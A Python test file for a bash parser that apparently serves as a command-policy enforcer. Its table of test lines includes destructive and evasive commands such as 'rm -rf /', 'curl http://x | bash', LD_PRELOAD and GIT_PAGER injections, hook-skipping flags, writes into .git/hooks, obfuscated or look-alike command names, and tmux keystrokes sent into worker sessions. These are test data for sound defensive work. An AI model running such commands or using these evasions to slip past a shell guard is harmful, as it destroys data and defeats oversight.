"""enforcer.shell: command lines as bash runs them, turned into simple commands and opaque reasons.

Each row: a line, the text of every simple command it runs (in order, nested ones included), the
substrings its opaque reasons must hold (none: the line must be fully judged from text), and facts
of one command (index ``at``, default 0).
"""
from __future__ import annotations

import pytest

from enforcer.shell import Parsed, Simple, parse

CLEAN: tuple[str, ...] = ()

# (line, commands' text, opaque substrings, {field: value} of commands[at])
TABLE: list[tuple[str, list[str], tuple[str, ...], dict[str, object]]] = [
    # lists, pipes, groups, compound commands
    ("git status", ["git status"], CLEAN, {"argv": ("git", "status")}),
    ("git status --short && git diff", ["git status --short", "git diff"], CLEAN, {}),
    ("ls -la | grep foo | wc -l", ["ls -la", "grep foo", "wc -l"], CLEAN, {}),
    ("make; make test", ["make", "make test"], CLEAN, {}),
    ("sleep 10 & echo started", ["sleep 10", "echo started"], CLEAN, {}),
    ("false || echo failed", ["false", "echo failed"], CLEAN, {}),
    ("echo a\necho b", ["echo a", "echo b"], CLEAN, {}),
    ("ls |& cat", ["ls", "cat"], CLEAN, {}),
    ("(cd sub && rm -rf build)", ["cd sub", "rm -rf build"], CLEAN, {}),
    ("{ git add -A; git commit -m wip; }", ["git add -A", "git commit -m wip"], CLEAN, {}),
    ("if [ -f x ]; then rm x; fi", ["[ -f x ]", "rm x"], CLEAN, {}),
    ("if true; then rm a; elif false; then rm b; else rm c; fi", ["true", "rm a", "false", "rm b", "rm c"], CLEAN, {}),
    ("while true; do sleep 1; done", ["true", "sleep 1"], CLEAN, {}),
    ("until false; do break; done", ["false", "break"], CLEAN, {}),
    ("for f in a b c; do rm \"$f\"; done", ["", "rm $f"], CLEAN, {"at": 1, "argv": ("rm", "$f")}),
    ("for HOME in src/h; do git status; done", ["", "git status"], CLEAN, {"assignments": ("HOME=",)}),
    ("case \"$1\" in start) ./run.sh;; stop) kill 1;; esac", ["run.sh", "kill 1"], CLEAN, {"path": "./run.sh"}),
    ("case $x in a|b) rm x;; *) ls;; esac", ["rm x", "ls"], CLEAN, {}),
    ("! git diff --quiet", ["git diff --quiet"], CLEAN, {}),
    ("f() { rm -rf /; }", ["rm -rf /"], ("function definition: f",), {}),
    ("function g { git push --force; }", ["git push --force"], ("function definition",), {}),
    ("echo a; # rm -rf /", ["echo a"], CLEAN, {}),
    ("echo a#; rm y", ["echo a#", "rm y"], CLEAN, {}),
    # names: paths, quotes, escapes
    ("/bin/rm -rf build", ["rm -rf build"], CLEAN, {"path": "/bin/rm"}),
    ("/usr/bin/git push origin main", ["git push origin main"], CLEAN, {}),
    ("\\rm -rf build", ["rm -rf build"], CLEAN, {}),
    ("\"rm\" -rf build", ["rm -rf build"], CLEAN, {}),
    ("'rm' -rf build", ["rm -rf build"], CLEAN, {}),
    ("r''m -rf build", ["rm -rf build"], CLEAN, {}),
    ("r\"m\" -rf build", ["rm -rf build"], CLEAN, {}),
    ("$'\\x72\\x6d' -rf build", ["rm -rf build"], CLEAN, {}),
    ("$'\\162\\155' -rf build", ["rm -rf build"], CLEAN, {}),
    ("./scripts/run_tests.sh -q", ["run_tests.sh -q"], CLEAN, {"path": "./scripts/run_tests.sh"}),
    ("echo \"a \\\" b\"", ["echo a \" b"], CLEAN, {}),
    ("echo 'a \"b\" c'", ["echo a \"b\" c"], CLEAN, {}),
    ("echo $'a\\tb'", ["echo a\tb"], CLEAN, {}),
    ("echo \\$HOME", ["echo $HOME"], CLEAN, {}),
    ("git commit \\\n  -m msg", ["git commit -m msg"], CLEAN, {}),
    ("git commit -m \"fix: a; b && c\"", ["git commit -m fix: a; b && c"], CLEAN, {}),
    ("git commit -m 'message with $(not run)'", ["git commit -m message with $(not run)"], CLEAN, {}),
    # wrappers
    ("env rm -rf x", ["rm -rf x"], CLEAN, {"wrappers": (("env",),)}),
    ("env -i A=1 B=2 git push", ["git push"], CLEAN,
     {"wrappers": (("env", "-i", "A=1", "B=2"),), "assignments": ("A=1", "B=2")}),
    ("env -u HOME -C /tmp rm x", ["rm x"], CLEAN, {"wrappers": (("env", "-u", "HOME", "-C", "/tmp"),)}),
    ("env -- rm x", ["rm x"], CLEAN, {}),
    ("env", ["env"], CLEAN, {"wrappers": ()}),
    ("timeout 5 git push", ["git push"], CLEAN, {"wrappers": (("timeout", "5"),)}),
    ("timeout -s KILL 5 git push", ["git push"], CLEAN, {"wrappers": (("timeout", "-s", "KILL", "5"),)}),
    ("timeout --signal=KILL --kill-after 2 5 git push", ["git push"], CLEAN, {}),
    ("timeout -k 2 -s TERM 10s git push --force", ["git push --force"], CLEAN, {}),
    ("nice git push", ["git push"], CLEAN, {}),
    ("nice -n 10 git push", ["git push"], CLEAN, {"wrappers": (("nice", "-n", "10"),)}),
    ("nice -10 git push", ["git push"], CLEAN, {}),
    ("nice --adjustment=5 rm x", ["rm x"], CLEAN, {}),
    ("nohup rm -rf x &", ["rm -rf x"], CLEAN, {"wrappers": (("nohup",),)}),
    ("command rm x", ["rm x"], CLEAN, {}),
    ("command -p rm x", ["rm x"], CLEAN, {}),
    ("builtin cd /tmp", ["cd /tmp"], CLEAN, {}),
    ("exec rm x", ["rm x"], CLEAN, {}),
    ("exec -a fake rm x", ["rm x"], CLEAN, {"wrappers": (("exec", "-a", "fake"),)}),
    ("xargs rm", ["rm"], CLEAN, {"wrappers": (("xargs",),)}),
    ("find . -name '*.o' | xargs -0 -n1 rm -f", ["find . -name *.o", "rm -f"], CLEAN,
     {"at": 1, "wrappers": (("xargs", "-0", "-n1"),)}),
    ("xargs -I{} -P 4 rm {}", ["rm {}"], CLEAN, {}),
    ("sudo rm -rf /", ["rm -rf /"], CLEAN, {"wrappers": (("sudo",),)}),
    ("sudo -u bob git push", ["git push"], CLEAN, {"wrappers": (("sudo", "-u", "bob"),)}),
    ("sudo -u bob -g staff -- rm x", ["rm x"], CLEAN, {}),
    ("sudo -E HOME=/x rm y", ["rm y"], CLEAN, {"assignments": ("HOME=/x",)}),
    ("sudo -e /etc/hosts", ["sudoedit /etc/hosts"], CLEAN, {}),
    ("doas -u root rm x", ["rm x"], CLEAN, {}),
    ("stdbuf -oL -e 0 git push", ["git push"], CLEAN, {}),
    ("time git push", ["git push"], CLEAN, {"wrappers": (("time",),)}),
    ("time -p git push", ["git push"], CLEAN, {}),
    ("setsid rm x", ["rm x"], CLEAN, {}),
    ("ionice -c 3 rm x", ["rm x"], CLEAN, {}),
    ("chrt -f 50 rm x", ["rm x"], CLEAN, {}),
    ("taskset 0x3 rm x", ["rm x"], CLEAN, {}),
    ("taskset -c 0,1 rm x", ["rm x"], CLEAN, {}),
    ("unbuffer rm x", ["rm x"], CLEAN, {}),
    ("busybox rm -rf x", ["rm -rf x"], CLEAN, {}),
    ("nohup nice -n 5 timeout 60 sudo -u bob env A=1 /bin/rm x", ["rm x"], CLEAN,
     {"wrappers": (("nohup",), ("nice", "-n", "5"), ("timeout", "60"), ("sudo", "-u", "bob"), ("env", "A=1")),
      "assignments": ("A=1",)}),
    ("command -v git", ["command -v git"], CLEAN, {}),  # looks the name up, runs nothing
    # assignments that make a command run another program
    ("GIT_EXTERNAL_DIFF=./evil.sh git diff", ["git diff"], CLEAN, {"assignments": ("GIT_EXTERNAL_DIFF=./evil.sh",)}),
    ("GIT_PAGER='sh -c id' git log", ["git log"], CLEAN, {"assignments": ("GIT_PAGER=sh -c id",)}),
    ("PAGER=less EDITOR=vim git commit", ["git commit"], CLEAN, {"assignments": ("PAGER=less", "EDITOR=vim")}),
    ("LD_PRELOAD=/tmp/x.so ls", ["ls"], CLEAN, {"assignments": ("LD_PRELOAD=/tmp/x.so",)}),
    ("A=1 B=\"two words\" make", ["make"], CLEAN, {"assignments": ("A=1", "B=two words")}),
    ("env GIT_SSH_COMMAND='ssh -i key' git push", ["git push"], CLEAN,
     {"assignments": ("GIT_SSH_COMMAND=ssh -i key",)}),
    ("sudo BASH_ENV=/tmp/x bash script.sh", ["bash script.sh"], CLEAN, {"assignments": ("BASH_ENV=/tmp/x",)}),
    ("export GIT_PAGER=evil; git log", ["export GIT_PAGER=evil", "git log"], CLEAN,
     {"assignments": ("GIT_PAGER=evil",)}),
    ("declare -x EDITOR=vim", ["declare -x EDITOR=vim"], CLEAN, {"assignments": ("EDITOR=vim",)}),
    ("A=1", [""], CLEAN, {"argv": (), "assignments": ("A=1",)}),
    ("HUSKY=0 git commit -m x", ["git commit -m x"], CLEAN, {"assignments": ("HUSKY=0",)}),
    ("SKIP=lint git commit -m x", ["git commit -m x"], CLEAN, {"assignments": ("SKIP=lint",)}),
    ("git commit --no-verify -m x", ["git commit --no-verify -m x"], CLEAN, {}),
    ("git -c core.hooksPath=/dev/null commit -m x", ["git -c core.hooksPath=/dev/null commit -m x"], CLEAN, {}),
    # redirections, writes into .git/
    ("cat x > .git/hooks/pre-commit", ["cat x"], CLEAN, {"redirects": ((">", ".git/hooks/pre-commit"),)}),
    ("echo x >> .git/config", ["echo x"], CLEAN, {"redirects": ((">>", ".git/config"),)}),
    ("echo x >| '.git/config'", ["echo x"], CLEAN, {"redirects": ((">|", ".git/config"),)}),
    ("cp evil .git/hooks/pre-push", ["cp evil .git/hooks/pre-push"], CLEAN, {}),
    ("echo hi 2> err.log", ["echo hi"], CLEAN, {"redirects": (("2>", "err.log"),)}),
    ("make &> build.log", ["make"], CLEAN, {"redirects": (("&>", "build.log"),)}),
    ("make &>> build.log", ["make"], CLEAN, {"redirects": (("&>>", "build.log"),)}),
    ("ls > /dev/null 2>&1", ["ls"], CLEAN, {"redirects": ((">", "/dev/null"), ("2>&", "1"))}),
    (">out.txt echo x", ["echo x"], CLEAN, {"redirects": ((">", "out.txt"),)}),
    ("{ echo a; cat b; } > .git/hooks/post-checkout", ["echo a", "cat b"], CLEAN,
     {"at": 1, "redirects": ((">", ".git/hooks/post-checkout"),)}),
    ("for i in 1 2; do echo $i; done > out.txt", ["", "echo $i"], CLEAN, {"at": 1, "redirects": ((">", "out.txt"),)}),
    ("(echo a) > .git/x", ["echo a"], CLEAN, {"redirects": ((">", ".git/x"),)}),
    ("cat < in.txt", ["cat"], CLEAN, {"redirects": (("<", "in.txt"),)}),
    ("> .git/index", [""], CLEAN, {"argv": (), "redirects": ((">", ".git/index"),)}),
    ("tee .git/hooks/pre-commit < x", ["tee .git/hooks/pre-commit"], CLEAN, {}),
    ("cat <<EOF > .git/hooks/pre-commit\n#!/bin/sh\nexit 0\nEOF", ["cat"], CLEAN,
     {"redirects": (("<<", "EOF"), (">", ".git/hooks/pre-commit"))}),
    ("cat <<'EOF'\n$(rm -rf /)\nEOF", ["cat"], CLEAN, {"redirects": (("<<", "EOF"),)}),
    ("cat <<-END\n\ttabbed\n\tEND\nls", ["cat", "ls"], CLEAN, {"redirects": (("<<-", "END"),)}),
    ("cat <<EOF | sh\nrm -rf /\nEOF", ["cat", "sh"], ("sh reads commands",), {}),
    ("grep x <<< \"some text\"", ["grep x"], CLEAN, {"redirects": (("<<<", "some text"),)}),
    # strings run as commands
    ("bash -c 'rm -rf /'", ["bash -c rm -rf /", "rm -rf /"], CLEAN, {"at": 1, "nested_from": "bash -c"}),
    ("sh -c \"git push --force\"", ["sh -c git push --force", "git push --force"], CLEAN, {"at": 1}),
    ("bash -lc 'git push'", ["bash -lc git push", "git push"], CLEAN, {}),
    ("bash -x -c 'rm x' name arg", ["bash -x -c rm x name arg", "rm x"], CLEAN, {}),
    ("zsh -c 'rm x'", ["zsh -c rm x", "rm x"], CLEAN, {"at": 1, "nested_from": "zsh -c"}),
    ("bash -c \"bash -c 'rm -rf x'\"", ["bash -c bash -c 'rm -rf x'", "bash -c rm -rf x", "rm -rf x"], CLEAN, {}),
    ("bash -c 'eval \"rm -rf x\"'", ["bash -c eval \"rm -rf x\"", "eval rm -rf x", "rm -rf x"], CLEAN,
     {"at": 2, "nested_from": "eval"}),
    ("eval \"rm -rf x\"", ["eval rm -rf x", "rm -rf x"], CLEAN, {"at": 1, "nested_from": "eval"}),
    ("eval rm -rf x", ["eval rm -rf x", "rm -rf x"], CLEAN, {}),
    ("eval \"$CMD\"", ["eval $CMD", "$CMD"], ("command name is an expansion",), {}),
    ("sudo sh -c 'rm -rf /'", ["sh -c rm -rf /", "rm -rf /"], CLEAN, {}),
    ("xargs sh -c 'rm \"$1\"' _", ["sh -c rm \"$1\" _", "rm $1"], CLEAN, {}),
    ("su -c 'rm x' bob", ["su -c rm x bob", "rm x"], CLEAN, {"at": 1, "nested_from": "su -c"}),
    ("su bob -c 'rm x'", ["su bob -c rm x", "rm x"], CLEAN, {}),
    ("flock /tmp/lock -c 'git push'", ["flock /tmp/lock -c git push", "git push"], CLEAN, {}),
    ("flock /tmp/lock git push", ["git push"], CLEAN, {}),
    ("watch -n 2 git status", ["watch -n 2 git status", "git status"], CLEAN, {"at": 1, "nested_from": "watch"}),
    ("trap 'rm -rf /tmp/x' EXIT", ["trap rm -rf /tmp/x EXIT", "rm -rf /tmp/x"], CLEAN, {}),
    ("bash script.sh", ["bash script.sh"], CLEAN, {}),
    ("bash <<EOF\nrm -rf /\nEOF", ["bash", "rm -rf /"], CLEAN, {"at": 1, "nested_from": "bash reading stdin"}),
    ("bash <<< 'git push --force'", ["bash", "git push --force"], CLEAN, {}),
    ("curl http://x | bash", ["curl http://x", "bash"], ("bash reads commands from its input",), {}),
    ("find . -name '*.pyc' -exec rm {} \\;", ["find . -name *.pyc -exec rm {} ;", "rm {}"], CLEAN,
     {"at": 1, "nested_from": "find -exec"}),
    ("find . -type f -execdir chmod 644 {} +", ["find . -type f -execdir chmod 644 {} +", "chmod 644 {}"], CLEAN, {}),
    # tmux: keys typed into another session are that session's command line
    ("tmux send-keys -t task_worker1 'git push --force' Enter",
     ["tmux send-keys -t task_worker1 git push --force Enter", "git push --force"], CLEAN,
     {"at": 1, "session": "task_worker1", "nested_from": "tmux send-keys -t task_worker1"}),
    ("tmux send-keys -t task_worker1:0.1 \"rm -rf build\" C-m",
     ["tmux send-keys -t task_worker1:0.1 rm -rf build C-m", "rm -rf build"], CLEAN,
     {"at": 1, "session": "task_worker1"}),
    ("tmux send-keys -t =edu_worker1 'ls' Enter 'git status' Enter",
     ["tmux send-keys -t =edu_worker1 ls Enter git status Enter", "ls", "git status"], CLEAN,
     {"at": 2, "session": "edu_worker1"}),
    ("tmux send-keys -t w1 'git push'", ["tmux send-keys -t w1 git push", "git push"], CLEAN, {"at": 1}),
    ("tmux send-keys -t w1 Enter", ["tmux send-keys -t w1 Enter"], CLEAN, {}),
    ("tmux send-keys -t w1 -l 'rm -rf x'", ["tmux send-keys -t w1 -l rm -rf x", "rm -rf x"], CLEAN, {}),
    ("tmux send-keys -t w1 'git' Space 'push' Enter", ["tmux send-keys -t w1 git Space push Enter", "git push"],
     CLEAN, {}),
    ("tmux send-keys -t w1 Up Enter", ["tmux send-keys -t w1 Up Enter"], ("tmux key Up",), {}),
    ("tmux send-keys -t w1 C-c", ["tmux send-keys -t w1 C-c"], CLEAN, {}),
    ("tmux send-keys -t w1 \"bash -c 'rm -rf /'\" Enter",
     ["tmux send-keys -t w1 bash -c 'rm -rf /' Enter", "bash -c rm -rf /", "rm -rf /"], CLEAN,
     {"at": 2, "session": "w1", "nested_from": "bash -c"}),
    ("tmux send-keys -t w1 'ls' Enter \\; send-keys -t w2 'rm x' Enter",
     ["tmux send-keys -t w1 ls Enter ; send-keys -t w2 rm x Enter", "ls", "rm x"], CLEAN, {"at": 2, "session": "w2"}),
    ("tmux -L sock send-keys -t w1 'rm x' Enter", ["tmux -L sock send-keys -t w1 rm x Enter", "rm x"], CLEAN,
     {"at": 1, "session": "w1"}),
    ("tmux send -t w1 'rm x' Enter", ["tmux send -t w1 rm x Enter", "rm x"], CLEAN, {"at": 1, "session": "w1"}),
    ("tmux new-session -d -s w3 'rm -rf x'", ["tmux new-session -d -s w3 rm -rf x", "rm -rf x"], CLEAN,
     {"at": 1, "session": "w3"}),
    ("tmux run-shell 'rm -rf x'", ["tmux run-shell rm -rf x", "rm -rf x"], CLEAN, {}),
    ("tmux if-shell true 'kill-server'", ["tmux if-shell true kill-server"], ("tmux if-shell",), {}),
    ("tmux list-sessions", ["tmux list-sessions"], CLEAN, {}),
    ("sudo tmux send-keys -t w1 'rm x' Enter", ["tmux send-keys -t w1 rm x Enter", "rm x"], CLEAN,
     {"at": 1, "session": "w1"}),
    # substitutions
    ("echo $(rm -rf /)", ["echo $(rm -rf /)", "rm -rf /"], ("command substitution",), {"at": 1, "nested_from": "$(...)"}),
    ("echo `rm -rf /`", ["echo `rm -rf /`", "rm -rf /"], ("command substitution",), {}),
    ("diff <(ls a) <(ls b)", ["diff <(ls a) <(ls b)", "ls a", "ls b"], ("process substitution",), {}),
    ("tee >(rm x) < y", ["tee >(rm x)", "rm x"], ("process substitution",), {}),
    ("echo \"$(id)\"", ["echo $(id)", "id"], ("command substitution",), {}),
    ("x=$(git rev-parse HEAD)", ["", "git rev-parse HEAD"], ("command substitution",), {}),
    ("A=$(id) ls", ["ls", "id"], ("command substitution",), {"assignments": ("A=$(id)",)}),
    ("git commit -m \"$(cat msg.txt)\"", ["git commit -m $(cat msg.txt)", "cat msg.txt"], ("command substitution",), {}),
    ("cat <<EOF\n$(rm -rf /)\nEOF", ["cat", "rm -rf /"], ("command substitution",), {}),
    ("for i in $(seq 3); do echo $i; done", ["", "seq 3", "echo $i"], ("command substitution",), {}),
    ("echo $(echo $(echo $(id)))", ["echo $(echo $(echo $(id)))", "echo $(echo $(id))", "echo $(id)", "id"],
     ("command substitution",), {}),
    # names bash decides at run time, and other things text cannot settle
    ("$(echo rm) -rf x", ["$(echo rm) -rf x", "echo rm"], ("command name is an expansion",), {}),
    ("$CMD -rf x", ["$CMD -rf x"], ("command name is an expansion",), {}),
    ("${CMD} x", ["${CMD} x"], ("command name is an expansion",), {}),
    ("\"$CMD\" x", ["$CMD x"], ("command name is an expansion",), {}),
    ("sudo $CMD x", ["$CMD x"], ("command name is an expansion",), {}),
    ("*/rm x", ["rm x"], ("command name is a pattern",), {}),
    ("r? x", ["r? x"], ("command name is a pattern",), {}),
    ("r{m,} x", ["r{m,} x"], ("command name is a pattern",), {}),
    ("{rm,-rf,x}", [], ("cannot parse",), {}),
    ("cp a{,.bak}", ["cp a{,.bak}"], ("brace expansion",), {}),
    ("git push origin {main,dev}", ["git push origin {main,dev}"], ("brace expansion",), {}),
    ("echo '{a,b}'", ["echo {a,b}"], CLEAN, {}),
    ("source ./env.sh", ["source ./env.sh"], ("source of a file",), {}),
    (". ./env.sh", [". ./env.sh"], ("source of a file",), {}),
    ("alias ls='rm -rf'", ["alias ls=rm -rf"], ("alias definition",), {}),
    ("python3 -c 'import os; os.system(\"rm -rf /\")'", ["python3 -c import os; os.system(\"rm -rf /\")"],
     ("python3 -c code",), {}),
    ("python3 -m pytest -q", ["python3 -m pytest -q"], CLEAN, {}),
    ("python3 script.py", ["python3 script.py"], CLEAN, {}),
    ("python3 - <<EOF\nprint(1)\nEOF", ["python3"], ("reads code from its input",), {}),
    ("perl -e 'system(1)'", ["perl -e system(1)"], ("perl -e code",), {}),
    ("perl -pi -e 's/a/b/' f", ["perl -pi -e s/a/b/ f"], ("perl -e code",), {}),
    ("node -e 'x'", ["node -e x"], ("node -e code",), {}),
    ("ruby -e 'system(1)'", ["ruby -e system(1)"], ("ruby -e code",), {}),
    ("awk 'BEGIN { system(\"rm -rf /\") }'", ["awk BEGIN { system(\"rm -rf /\") }"], ("awk program runs commands",), {}),
    ("awk '{print $1}' f", ["awk {print $1} f"], CLEAN, {}),
    ("echo $((1 + 2))", ["echo $((1 + 2))"], CLEAN, {}),
    ("echo $((x + 1))", ["echo $((x + 1))"], ("arithmetic",), {}),
    ("(( i++ ))", [], ("arithmetic",), {}),
    ("[[ $a -eq 1 ]] && echo y", ["[[ $a -eq 1 ]]", "echo y"], ("arithmetic",), {}),
    # hostile input: never an exception, never silently empty
    ("", [], ("no command",), {}),
    ("   ", [], ("no command",), {}),
    ("# only a comment", [], ("no command",), {}),
    ("echo \"unbalanced", ["echo"], ("cannot parse",), {}),
    ("echo 'unbalanced", ["echo"], ("cannot parse",), {}),
    ("echo (", ["echo"], ("cannot parse",), {}),
    ("if true; then", ["true"], ("cannot parse",), {}),
    ("ls 3<>f", ["ls"], ("cannot parse",), {}),
    ("rm -rf x\0; ls", ["rm -rf x", "ls"], ("NUL byte",), {}),
    ("ｒｍ -rf x", ["ｒｍ -rf x"], ("look-alike", "not ASCII"), {}),
    ("git status\u200b && rm x", ["git status\u200b", "rm x"], ("invisible",), {}),
    ("rm \u2215etc\u2215passwd", ["rm \u2215etc\u2215passwd"], ("look-alike",), {}),
    ("rm \u2212rf x", ["rm \u2212rf x"], ("look-alike",), {}),
    ("git status \uff1b rm x", ["git status \uff1b rm x"], ("look-alike",), {}),
    ("git\u00a0status", ["git\u00a0status"], ("invisible or unusual",), {}),
    ("rm\u202e -rf x", ["rm\u202e -rf x"], ("invisible",), {}),
    ("r\\\nm -rf x", ["r m -rf x"], ("line continuation inside a word",), {}),
    ("echo x\r; rm y", ["echo x", "rm y"], ("control character",), {}),  # the grammar takes \r as a blank
    ("echo caf\u00e9", ["echo caf\u00e9"], CLEAN, {}),
]


@pytest.mark.parametrize(("line", "texts", "reasons", "facts"), TABLE, ids=[repr(row[0])[:60] for row in TABLE])
def test_line(line: str, texts: list[str], reasons: tuple[str, ...], facts: dict[str, object]) -> None:
    parsed = parse(line)
    assert [c.text for c in parsed.commands] == texts
    if reasons:
        for reason in reasons:
            assert any(reason in r for r in parsed.opaque), (reason, parsed.opaque)
    else:
        assert parsed.opaque == ()
    facts = dict(facts)
    command = parsed.commands[int(facts.pop("at", 0))] if facts else None  # type: ignore[call-overload]
    for field, value in facts.items():
        assert getattr(command, field) == value, field


def test_the_table_is_large() -> None:
    assert len(TABLE) >= 120


def test_fields_and_types() -> None:
    parsed = parse("A=1 timeout 5 /bin/rm -rf x > out")
    assert isinstance(parsed, Parsed) and isinstance(parsed.commands[0], Simple)
    assert parsed.commands[0] == Simple(argv=("rm", "-rf", "x"), assignments=("A=1",), wrappers=(("timeout", "5"),),
                                        redirects=((">", "out"),), text="rm -rf x", nested_from=None, session=None,
                                        path="/bin/rm")


HOSTILE = [
    "x" * (1 << 20),  # 1 MB
    "echo " + "a" * (64 * 1024),
    "$(" * 500 + "id" + ")" * 500,
    "(" * 2000 + "ls" + ")" * 2000,
    "{ " * 1000 + "ls; " + "} " * 1000,
    "bash -c " + "'bash -c " * 20 + "ls" + "'" * 20,
    "eval " * 300 + "ls",
    "\0" * 100,
    "'" * 1001,
    "\"$(\"" * 300,
    "\ud800 rm",  # a lone surrogate
    "echo \x00$(id)\x00",
    "cat <<EOF\n" + "x\n" * 10000,
    "; ; && || |",
    "\u3000rm -rf x",
    "tmux send-keys -t " + "w1 'tmux send-keys -t w2 \"" * 30 + "ls",
    "\ufeffrm -rf x",
]


@pytest.mark.parametrize("line", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_input_is_never_an_exception_nor_silently_clean(line: str) -> None:
    parsed = parse(line)
    assert parsed.commands or parsed.opaque
    assert parsed.opaque  # every one of these is something text alone cannot settle


def test_parse_is_pure_and_repeatable() -> None:
    line = "cd x && tmux send-keys -t w1 'rm -rf y' Enter | tee .git/z"
    assert parse(line) == parse(line)
